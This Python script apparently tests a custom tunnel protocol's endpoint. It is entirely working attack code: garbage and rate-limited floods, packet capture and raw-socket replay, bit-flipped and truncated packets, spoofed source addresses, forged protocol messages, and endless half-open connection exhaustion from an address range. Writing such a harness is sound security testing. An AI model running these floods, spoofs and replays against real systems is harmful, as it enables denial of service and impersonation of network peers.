#!/usr/bin/env python3
"""Hostile datagrams against a tunnel endpoint.

attack.py garbage ADDRESS PORT COUNT SEED     random bytes of all lengths
attack.py capture INTERFACE PORT COUNT FILE   records UDP datagrams from and to PORT, as IP packets
attack.py replay FILE PORT                    sends the records to PORT again as they were, source address included
attack.py alter FILE PORT SEED                the same with one bit of the payload flipped
attack.py truncate FILE PORT SEED             the same with the end cut off
attack.py steal FILE PORT                     the payload of the records to PORT from this host's own address
attack.py answers FILE PORT SEED              records from PORT, one bit flipped, to where they went
attack.py unsealed FILE PORT                  to both ends of the records, in the other's name: UNKNOWN for each reason and
                                              VERSIONS, which quote them
attack.py hello FILE PORT SEED                connections that begin with a HELLO for the session of each record to PORT, with
                                              high numbers and random tags
attack.py flood ADDRESS PORT RATE SEED SESSION  garbage, unknown sessions and the session with that number (its id on the
                                              wire), RATE a second, until it is ended
attack.py forge SOURCE SPORT ADDRESS PORT TEXT  one datagram with that source address, IPv4 or IPv6
attack.py handshakes ADDRESS PORT FIRST LAST KIND  from each address of the range, connections that begin something and say no
                                              more, always anew, until it is ended; KIND: tls, a handshake; hello, the HELLO
                                              of a plain connection; silent, nothing
"""
import random
import socket
import struct
import sys
import time

IP_HEADER = 20
UDP_HEADER = 8
ETH_P_ALL = 0x0003  # what this host sends, too
RATE_S = 0.001
MAX_HELD = 800  # connections


def send_garbage(address, port, count, seed):
    source = random.Random(int(seed))
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(int(count)):
        out.sendto(source.randbytes(source.randrange(0, 1400)), (address, int(port)))
        time.sleep(RATE_S)


def flood(address, port, rate, seed, session):
    source = random.Random(int(seed))
    session = struct.pack("!H", int(session))
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.connect((address, int(port)))
    started, sent = time.monotonic(), 0
    while True:
        for _ in range(max(1, int((time.monotonic() - started) * int(rate)) - sent)):
            # A first octet of 0x20 to 0x2F is that of data datagrams, third and fourth are the session (docs/PROTOCOL.md section 3.1).
            datagram = bytes([0x20 | source.randrange(16)]) + source.randbytes(source.choice((0, 7, 40, 200, 1200)))
            if source.random() < 0.5:
                datagram = datagram[:2] + session + datagram[4:]
            try:
                out.send(datagram if source.random() < 0.5 else datagram[1:])
            except ConnectionError:
                pass
            sent += 1
        time.sleep(RATE_S)


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + bytes(len(data) % 2)))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF or 0xFFFF


def forge(source, source_port, address, port, text):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    ends = socket.inet_pton(family, source) + socket.inet_pton(family, address)
    length = UDP_HEADER + len(text)
    udp = struct.pack("!HHHH", int(source_port), int(port), length, 0) + text.encode()
    udp = udp[:6] + struct.pack("!H", checksum(ends + struct.pack("!II", length, socket.IPPROTO_UDP) + udp)) + udp[8:]
    if family == socket.AF_INET6:
        packet = struct.pack("!IHBB", 6 << 28, length, socket.IPPROTO_UDP, 64) + ends + udp
    else:
        packet = struct.pack("!BBHHHBBH", 0x45, 0, IP_HEADER + length, 0, 0, 64, socket.IPPROTO_UDP, 0) + ends + udp
    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.sendto(packet, (address, 0))


# The beginnings of a TLS 1.3 record with a ClientHello of 512 bytes, and of a record with a HELLO of 25 (docs/PROTOCOL.md
# section 3.7).
BEGINNINGS = {"tls": bytes.fromhex("1603010200010001fc0303") + bytes(32), "hello": bytes.fromhex("0019030100000100000001") + bytes(10),
              "silent": b""}


def handshakes(address, port, first, last, kind):
    beginning = BEGINNINGS[kind]
    host, low = first.rsplit(".", 1)
    sources = [f"{host}.{n}" for n in range(int(low), int(last.rsplit(".", 1)[1]) + 1)]
    held = []
    at = 0
    while True:
        for _ in range(16):
            link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            link.bind((sources[at % len(sources)], 0))
            link.setblocking(False)
            link.connect_ex((address, int(port)))
            held.append([link, False])
            at += 1
        time.sleep(RATE_S * 10)
        for entry in held:
            if not entry[1]:
                try:
                    entry[0].send(beginning)
                    entry[1] = True
                except OSError:
                    pass
        while len(held) > MAX_HELD:
            held.pop(0)[0].close()


def ports_of(packet):
    return struct.unpack_from("!HH", packet, IP_HEADER)


def capture(interface, port, count, path):
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    tap.bind((interface, ETH_P_ALL))
    kept = {True: 0, False: 0}
    with open(path, "wb") as out:
        while min(kept.values()) < int(count):
            packet = tap.recv(65535)
            if len(packet) < IP_HEADER + UDP_HEADER or packet[0] != 0x45 or packet[9] != socket.IPPROTO_UDP:
                continue
            is_up = ports_of(packet)[1] == int(port)
            if int(port) in ports_of(packet) and len(packet) <= 1500 and kept[is_up] < int(count):
                kept[is_up] += 1
                out.write(struct.pack("!H", len(packet)) + packet)


def records(path):
    with open(path, "rb") as stream:
        while prefix := stream.read(2):
            yield stream.read(struct.unpack("!H", prefix)[0])


def send_raw(packets):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for packet in packets:
        packet = bytearray(packet)
        packet[10:12] = b"\0\0"  # header checksum: the kernel's
        struct.pack_into("!H", packet, 2, len(packet))
        struct.pack_into("!HH", packet, IP_HEADER + 4, len(packet) - IP_HEADER, 0)  # UDP checksum 0: none
        raw.sendto(packet, (socket.inet_ntoa(bytes(packet[16:20])), 0))
        time.sleep(RATE_S)


# Section 3.6: UNKNOWN for each reason, and VERSIONS that leave none and the next one.
def unsealed_about(datagram):
    quote = datagram[:6] + datagram[-8:]
    return [b"\x02" + bytes([reason]) + quote for reason in (1, 2, 3)] + [b"\x01" + quote + versions for versions in (b"\0", b"\x20")]


# In answer to each packet, as if its receiver had sent them.
def unsealed(packets):
    for packet in packets:
        source, destination = packet[12:16], packet[16:20]
        ports = packet[IP_HEADER + 2:IP_HEADER + 4] + packet[IP_HEADER:IP_HEADER + 2]
        for message in unsealed_about(packet[IP_HEADER + UDP_HEADER:]):
            yield packet[:12] + destination + source + ports + bytes(4) + message


def hello(packets, port, source):
    for packet in packets:
        datagram = packet[IP_HEADER + UDP_HEADER:]
        epoch = datagram[0] >> 2 & 3
        content = struct.pack("!BBB", 3, 1, epoch) + datagram[2:4] + struct.pack("!I", source.randrange(1 << 31, 1 << 32))
        with socket.create_connection((socket.inet_ntoa(bytes(packet[16:20])), port), timeout=10) as link:
            content += source.randbytes(16)
            link.sendall(struct.pack("!H", len(content)) + content + struct.pack("!H", len(datagram)) + datagram)
            try:
                if link.recv(1000):
                    sys.exit("a forged HELLO was answered")
            except ConnectionError:
                pass


def flipped(packet, source):
    packet = bytearray(packet)
    position = source.randrange(IP_HEADER + UDP_HEADER, len(packet))
    packet[position] ^= 1 << source.randrange(8)
    return packet


def main():
    action, *rest = sys.argv[1:]
    if action == "garbage":
        return send_garbage(*rest)
    if action == "capture":
        return capture(*rest)
    if action == "flood":
        return flood(*rest)
    if action == "forge":
        return forge(*rest)
    if action == "handshakes":
        return handshakes(*rest)
    path, port = rest[0], int(rest[1])
    source = random.Random(int(rest[2]) if len(rest) > 2 else 0)
    up = [packet for packet in records(path) if ports_of(packet)[1] == port]
    down = [packet for packet in records(path) if ports_of(packet)[0] == port]
    if action == "replay":
        send_raw(up)
    elif action == "alter":
        send_raw(flipped(packet, source) for packet in up)
    elif action == "truncate":
        send_raw(packet[:source.randrange(IP_HEADER + UDP_HEADER, len(packet))] for packet in up)
    elif action == "answers":
        send_raw(flipped(packet, source) for packet in down)
    elif action == "unsealed":
        send_raw(unsealed(up + down))
    elif action == "hello":
        hello(up, port, source)
    elif action == "steal":
        out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for packet in up:
            out.sendto(packet[IP_HEADER + UDP_HEADER:], (socket.inet_ntoa(packet[16:20]), port))
            time.sleep(RATE_S)
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
